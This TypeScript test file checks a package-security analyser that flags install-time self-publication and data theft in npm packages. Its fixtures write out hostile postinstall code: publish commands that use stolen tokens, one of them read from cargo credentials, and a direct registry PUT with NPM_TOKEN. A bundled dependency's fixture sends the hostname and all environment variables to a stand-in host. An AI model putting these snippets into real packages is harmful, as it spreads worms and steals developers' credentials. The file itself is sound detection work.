/**
 * Self-propagation through other registries and through npm's publish protocol spoken directly:
 * publish commands of extension, crate, Python, gem and NuGet registries run while the package
 * installs, and a PUT whose document carries a tarball attachment. Release scripts that a
 * maintainer runs, and ordinary PUT requests, stay quiet.
 */
import { analyzeSource, threatsOf } from './helpers';

const pkg = (scripts: Record<string, string> = {}) =>
  JSON.stringify({ name: 'str-pad-utils', version: '1.0.0', scripts });

describe('publishing from install-time code', () => {
  it.each([
    [
      'an editor extension, with a token from the environment',
      'execSync(`npx @vscode/vsce publish -p ${process.env.VSCE_PAT} --no-dependencies`, { cwd: process.env.INIT_CWD });',
    ],
    [
      'a crate, with the token read from the cargo credentials',
      'execSync(`cargo publish --allow-dirty --token "$(grep token ~/.cargo/credentials.toml | cut -d\'"\' -f2)"`);',
    ],
    [
      'a Python package, with twine',
      "execSync('twine upload --non-interactive dist/*', { cwd: process.env.INIT_CWD });",
    ],
  ])('%s', (_name, line) => {
    const r = analyzeSource({
      'package.json': pkg({ postinstall: 'node i.js' }),
      'i.js': `const { execSync } = require('child_process');\n${line}`,
    });
    expect(r.evidence.map((e) => e.rule)).toContain('js.exec-npm-publish');
    expect(r.risk_level).toBe('critical');
  });
  it("npm's publish document PUT straight to the registry with a token", () => {
    const r = analyzeSource({
      'package.json': pkg({ postinstall: 'node i.js' }),
      'i.js': `const { execSync } = require('child_process'); const fs = require('fs');
const reg = execSync('npm config get registry').toString().trim();
const me = require('./package.json');
const body = { name: me.name, versions: { '9.9.9': { ...me, version: '9.9.9' } },
  _attachments: { [me.name + '-9.9.9.tgz']: { data: fs.readFileSync(__dirname + '/b.tgz').toString('base64') } } };
fetch(reg + '/' + me.name, { method: 'PUT', headers: { authorization: 'Bearer ' + process.env.NPM_TOKEN }, body: JSON.stringify(body) });`,
    });
    expect(r.evidence.map((e) => e.message)).toContainEqual(
      expect.stringMatching(/publishes a package through a registry request/),
    );
    expect(threatsOf(r)).toContain('install_script_injection');
  });
  it('quiet: a release script the maintainer runs, and a PUT of an ordinary document', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({ name: 'str-pad-utils', version: '1.0.0', main: 'index.js' }),
      'scripts/release.sh': '#!/bin/sh\nset -e\ncargo publish\ntwine upload dist/*\n',
      'index.js': `module.exports = (url, doc) => fetch(url, { method: 'PUT', body: JSON.stringify({ name: doc.name, rev: doc.rev }) });`,
    });
    expect(threatsOf(r)).toEqual([]);
  });
});

describe('bundled dependencies: npm rebuilds them after unpacking, so their install hooks run', () => {
  const files = (bundle: boolean) => ({
    'package.json': JSON.stringify({
      name: 'str-utils-kit',
      version: '1.0.0',
      main: 'index.js',
      dependencies: { 'left-trim': '1.0.0' },
      ...(bundle ? { bundleDependencies: ['left-trim'] } : {}),
    }),
    'index.js': 'module.exports = require("left-trim");',
    'node_modules/left-trim/package.json': JSON.stringify({
      name: 'left-trim',
      version: '1.0.0',
      main: 'lib/index.js',
      scripts: { postinstall: 'node lib/setup.js' },
    }),
    'node_modules/left-trim/lib/index.js': 'module.exports = (s) => s.trimStart();',
    'node_modules/left-trim/lib/setup.js': `const os = require('os');
const d = JSON.stringify({ h: os.hostname(), e: process.env });
require('https').request({ host: 'bundle-telemetry.example', method: 'POST', path: '/i' }).end(d);`,
  });
  it("a bundled dependency's postinstall is an install hook of the package, and what it runs is install-time code", () => {
    const r = analyzeSource(files(true));
    expect(r.install_scripts.postinstall).toBe(true);
    const hit = r.evidence.find((e) => e.rule === 'js.exfil-flow');
    expect(hit).toMatchObject({ file: 'node_modules/left-trim/lib/setup.js', install_time: true });
    expect(r.risk_level).toBe('critical');
  });
  it('node_modules shipped but not declared bundled: no install hook, run-time weights', () => {
    const r = analyzeSource(files(false));
    expect(r.install_scripts.postinstall).toBe(false);
    expect(r.evidence.find((e) => e.rule === 'js.exfil-flow')?.install_time).toBe(false);
  });
});
